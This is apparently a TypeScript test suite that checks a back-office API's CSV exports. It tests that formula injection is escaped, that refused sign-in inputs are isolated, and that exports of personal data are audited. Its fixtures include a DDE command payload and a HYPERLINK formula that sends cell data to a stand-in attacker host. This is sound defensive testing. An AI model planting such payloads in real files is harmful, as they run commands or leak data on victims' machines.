import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { ActivityEvent } from '@backoffice/contract';
import { exportFileName } from '../../src/modules/exports/csv-response';
import { adminClient } from '../support/ads-helpers';
import { makeAd, makeAdmin, makeUser, signIn } from '../support/factories';
import { buildTestApp, describeApi, ORIGIN, type TestApp } from '../support/test-app';

/**
 * Issue 38, findings 4 and 9 (docs/decisions/0018-exports-and-bulk.md, "CSV injection and export
 * audit"): cells that a spreadsheet splitting on `;` would run, the address a refused sign-in typed,
 * and the audit entry every export of personal data leaves.
 */
const FORMULA = /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
const records = (body: string): string[][] => parse(body, { bom: true, relax_column_count: false });

/** Fields of every line as Excel with `;` as its list separator reads them: quotes not opening a field are text. */
const semicolonFields = (body: string) =>
  body
    .replace(/^\uFEFF/, '')
    .split(/\r\n|\r|\n/)
    .flatMap((line) => line.split(';'));

describeApi('CSV injection and export audit', () => {
  let t: TestApp;
  let api: ReturnType<typeof adminClient>;
  let admin: Awaited<ReturnType<typeof makeAdmin>>;

  beforeAll(async () => {
    t = await buildTestApp({ env: { EXPORT_BATCH_SIZE: '3' } });
    admin = await makeAdmin(t.database.db, { name: 'Ruwan Jayasinghe', username: 'ruwan' });
    api = adminClient(t.app, await signIn(t.app, admin.email));
  });
  afterAll(() => t?.close());

  const exported = async (query = '') => {
    const res = await api.send('GET', `/api/activity?action=exported&pageSize=100${query}`);
    expect(res.statusCode, res.body).toBe(200);
    return (res.json() as { events: ActivityEvent[] }).events;
  };

  it('quotes a cell holding ";" and escapes a formula after it or after a space', async () => {
    await makeAd(t.database.db, { heading: `x;=cmd|' /C calc'!A0`, category: 'Injected', details: 'a;b' });
    await makeAd(t.database.db, { heading: ' =1+1', category: 'Injected', details: 'ok; -2' });
    const res = await api.send('GET', '/api/advertisements/export?category=Injected&sort=heading&order=asc');
    expect(res.statusCode).toBe(200);
    const lines = res.body.split('\n');
    expect(lines[1]).toContain(`,' =1+1,Ad `);
    expect(lines[1]).toContain(`,"ok; '-2",`);
    expect(lines[2]).toContain(`,"x;'=cmd|' /C calc'!A0",`);
    expect(lines[2]).toContain(`,"a;b",`);
    const runs = semicolonFields(res.body).filter((f) => FORMULA.test(f.replace(/^[\s"]+/, '')));
    expect(runs).toEqual([]);
    expect(records(res.body).map((r) => r[1])).toEqual(['heading', "' =1+1", "x;'=cmd|' /C calc'!A0"]);
  });

  it("keeps a refused sign-in's typed address out of the columns that name a user", async () => {
    const typed = `=HYPERLINK("http://evil.example/?"&A1;"x")@evil.lk`;
    for (const email of [typed, admin.email]) {
      const res = await t.app.inject({
        method: 'POST',
        url: '/api/auth/signin',
        headers: { origin: ORIGIN },
        payload: { email, password: 'not the password' },
      });
      expect(res.statusCode).toBe(401);
    }
    const res = await api.send('GET', '/api/activity/export?action=sign_in_failed');
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = records(res.body);
    const cells = (r: string[]) => Object.fromEntries(header!.map((h, i) => [h, r[i]]));
    const [known, unknown] = rows.map(cells);
    expect(unknown).toMatchObject({ entityId: '', entityLabel: '', actorId: '', actor: '', details: '' });
    expect(unknown!.attemptedEmail).toBe(`'${typed.toLowerCase()}`);
    expect(known).toMatchObject({ entityId: admin.id, entityLabel: 'ruwan', attemptedEmail: admin.email, details: '' });
    // The typed text is in no other column of any row.
    const elsewhere = rows.flatMap((r) => r.filter((c, i) => header![i] !== 'attemptedEmail' && c.includes('evil')));
    expect(elsewhere).toEqual([]);
    expect(semicolonFields(res.body).filter((f) => FORMULA.test(f.replace(/^[\s"]+/, '')))).toEqual([]);
  });

  it('records every export of personal data with its filters and rows, and no other export', async () => {
    const db = t.database.db;
    await makeUser(db, { username: 'kasun_one', isVerified: true });
    await makeUser(db, { username: 'nimali_one', isVerified: true });
    await makeUser(db, { username: 'waiting_one', isVerified: false });
    const before = (await exported()).length;
    const file = (name: string) => exportFileName(name, t.clock());
    const cases: [string, number, string, Record<string, string>][] = [
      ['/api/users/export?q=_one&status=active', 2, file('users'), { q: '_one', status: 'active' }],
      ['/api/data-extract/advertisers/export?q=waiting', 1, file('advertisers'), { q: 'waiting', status: 'all' }],
      ['/api/advertisements/export?category=Injected', 2, file('ads'), { category: 'Injected' }],
      ['/api/activity/export?action=sign_in_failed', 2, file('activity'), { action: 'sign_in_failed' }],
    ];
    for (const [url, rows, label, filters] of cases) {
      const res = await api.send('GET', url);
      expect(records(res.body).length - 1).toBe(rows);
      const [entry] = await exported();
      expect([url, entry]).toMatchObject([
        url,
        {
          entity: 'export',
          entityId: null,
          entityLabel: label,
          action: 'exported',
          actor: { _id: admin.id, name: 'Ruwan Jayasinghe' },
          details: { filters, rows },
        },
      ]);
      expect(entry!.details!.cancelled).toBeUndefined();
    }
    // Packages, banner ads and duties name nobody: no entry.
    for (const dataset of ['packages', 'banners', 'duties']) {
      expect((await api.send('GET', `/api/data-extract/${dataset}/export`)).statusCode).toBe(200);
    }
    expect((await exported()).length).toBe(before + cases.length);
    // The activity log names the action in words.
    const count = await api.send('GET', '/api/activity/count?entity=export&action=exported');
    expect(count.json().total).toBe(before + cases.length);
  });

  it('does not hand over a complete file whose entry could not be written', async () => {
    const db = t.database.db;
    for (const username of ['handover_a', 'handover_b', 'handover_c']) await makeUser(db, { username });
    const before = (await exported()).length;
    await db.execute(sql`alter table audit_events rename to audit_events_away`);
    // The rows may have gone out, but the download never ends as a whole file (or the connection is cut).
    const body = await api
      .send('GET', '/api/users/export?q=handover_')
      .then((res) => res.body)
      .catch(() => null)
      .finally(() => db.execute(sql`alter table audit_events_away rename to audit_events`));
    const whole = body !== null && body.startsWith('\uFEFFid,') && body.split('\n').length === 5;
    expect(whole).toBe(false);
    expect((await exported()).length).toBe(before);
  });
});
